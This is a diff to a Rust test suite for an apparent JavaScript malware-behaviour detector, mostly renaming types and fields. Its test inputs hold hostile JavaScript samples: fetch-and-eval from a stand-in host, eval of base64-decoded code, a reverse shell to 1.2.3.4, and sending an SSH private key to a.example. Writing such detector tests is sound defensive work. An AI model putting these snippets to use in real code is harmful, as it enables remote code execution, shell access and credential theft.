@@ -1,19 +1,19 @@
 use super::*;
-use crate::act::{Code, Taint};
+use crate::act::{CodeOrigin, Taint};
 
 fn acts(text: &str) -> Acts {
     read("x.js", text).unwrap_or_else(|error| panic!("{error}: {text}"))
 }
 
-fn executes(text: &str) -> Option<Code> {
-    acts(text).seen.into_iter().find_map(|seen| match seen.act {
+fn executes(text: &str) -> Option<CodeOrigin> {
+    acts(text).located.into_iter().find_map(|seen| match seen.act {
         Act::Executes(code) => Some(code),
         _ => None,
     })
 }
 
 fn sends(text: &str) -> Taint {
-    let sent = acts(text).seen.into_iter().find_map(|seen| match seen.act {
+    let sent = acts(text).located.into_iter().find_map(|seen| match seen.act {
         Act::Network { sends, .. } if sends.is_secret() => Some(sends),
         _ => None,
     });
@@ -21,7 +21,7 @@ fn sends(text: &str) -> Taint {
 }
 
 fn inner(text: &str) -> Vec<String> {
-    acts(text).inner.into_iter().map(|inner| inner.text).collect()
+    acts(text).embedded.into_iter().map(|inner| inner.text).collect()
 }
 
 #[test]
@@ -55,17 +55,17 @@ fn logging_in_is_no_theft() {
 
 #[test]
 fn code_from_elsewhere() {
-    let fetched = Some(Code::Fetched("https://a.example/x".into()));
+    let fetched = Some(CodeOrigin::Fetched("https://a.example/x".into()));
     assert_eq!(
         executes("const r = await fetch('https://a.example/x'); eval(await r.text());"),
         fetched
     );
-    assert_eq!(executes("eval(atob('YWxlcnQoMSk='))"), Some(Code::Decoded));
+    assert_eq!(executes("eval(atob('YWxlcnQoMSk='))"), Some(CodeOrigin::Decoded));
     assert_eq!(
         executes("new Function(Buffer.from('YWxlcnQoMSk=', 'base64').toString())()"),
-        Some(Code::Decoded)
+        Some(CodeOrigin::Decoded)
     );
-    assert_eq!(executes("globalThis['ev' + 'al'](x)"), Some(Code::Computed));
+    assert_eq!(executes("globalThis['ev' + 'al'](x)"), Some(CodeOrigin::Computed));
     assert_eq!(executes("console.log('eval')"), None);
 }
 
@@ -84,7 +84,7 @@ fn constants_are_folded() {
 #[test]
 fn shells_for_others() {
     let text = "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(9, '1.2.3.4', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
-    assert!(acts(text).seen.iter().any(|seen| seen.act == Act::ReverseShell));
+    assert!(acts(text).located.iter().any(|seen| seen.act == Act::ReverseShell));
 }
 
 #[test]
@@ -95,11 +95,11 @@ fn what_nests_without_end_is_refused() {
 }
 
 fn has(text: &str, wanted: &Act) -> bool {
-    acts(text).seen.iter().any(|seen| seen.act == *wanted)
+    acts(text).located.iter().any(|seen| seen.act == *wanted)
 }
 
 fn hosts(text: &str) -> Vec<(String, Vec<String>)> {
-    let network = acts(text).seen.into_iter().filter_map(|seen| match seen.act {
+    let network = acts(text).located.into_iter().filter_map(|seen| match seen.act {
         Act::Network { to, log_in, .. } => Some((to, log_in)),
         _ => None,
     });
@@ -146,10 +146,14 @@ fn fetched_code_runs_in_many_ways() {
         "import { writeFileSync } from 'fs'; import { pathToFileURL } from 'url';\nconst b = await (await fetch('https://a.example/x')).arrayBuffer();\nconst w = '/tmp/h.mjs'; writeFileSync(w, Buffer.from(b)); await import(pathToFileURL(w).href);",
         "const fs = require('fs'), cp = require('child_process');\nfetch('https://a.example/x').then(async (r) => { fs.writeFileSync('/tmp/h', await r.text()); cp.execFile('/tmp/h'); });",
     ] {
-        assert_eq!(executes(text), Some(Code::Fetched("https://a.example/x".into())), "{text}");
+        assert_eq!(
+            executes(text),
+            Some(CodeOrigin::Fetched("https://a.example/x".into())),
+            "{text}"
+        );
     }
     let text = "const F = Object.getPrototypeOf(async () => {})['const' + 'ructor']; new F(x)();";
-    assert_eq!(executes(text), Some(Code::Computed));
+    assert_eq!(executes(text), Some(CodeOrigin::Computed));
     for text in [
         "const fs = require('fs');\nfetch('https://a.example/x').then((r) => r.text()).then((t) => fs.writeFileSync('data.json', t));",
         "const cp = require('child_process');\nconst r = await fetch('https://a.example/x'); cp.execFileSync('git', ['checkout', await r.text()]);",
@@ -172,13 +176,13 @@ fn clients_talk_to_their_address() {
 
 #[test]
 fn functions_of_other_files_are_known() {
-    let mut memory = Memory::default();
+    let mut state = CrossFileState::default();
     let main = "const { report } = require('./report');\nreport(require('fs').readFileSync('/x/.ssh/id_rsa'));";
     let report = "exports.report = async (facts) => fetch('https://a.example', { body: facts });";
-    assert!(read_with("main.js", main, &mut memory).is_ok());
-    let found = read_with("report.js", report, &mut memory).unwrap_or_default();
+    assert!(read_with("main.js", main, &mut state).is_ok());
+    let found = read_with("report.js", report, &mut state).unwrap_or_default();
     let sent = found
-        .seen
+        .located
         .iter()
         .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.credential.is_some()));
     assert!(sent);
@@ -227,7 +231,7 @@ fn calls_within_calls_end() {
 #[test]
 fn what_users_of_an_application_send() {
     let private = |text: &str| {
-        let acts = acts(text).seen;
+        let acts = acts(text).located;
         acts.iter()
             .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.private.is_some()))
     };
@@ -262,7 +266,7 @@ fn functions_made_of_answers() {
         let text = format!(
             "const axios = require('axios'); axios.get('https://a.example').then(r => r.data).then(d => {{ {code}; }});"
         );
-        assert!(matches!(executes(&text), Some(Code::Fetched(_))), "{code}");
+        assert!(matches!(executes(&text), Some(CodeOrigin::Fetched(_))), "{code}");
     }
     assert_eq!(
         executes("fetch('https://a.example').then(d => new Promise(r => setTimeout(r, d.wait)));"),
@@ -273,7 +277,7 @@ fn functions_made_of_answers() {
 #[test]
 fn mails_to_somebody_else() {
     let mails = |text: &str| {
-        let acts = acts(text).seen;
+        let acts = acts(text).located;
         acts.iter()
             .any(|seen| matches!(&seen.act, Act::Network { to, .. } if to.contains("a@b.example")))
     };
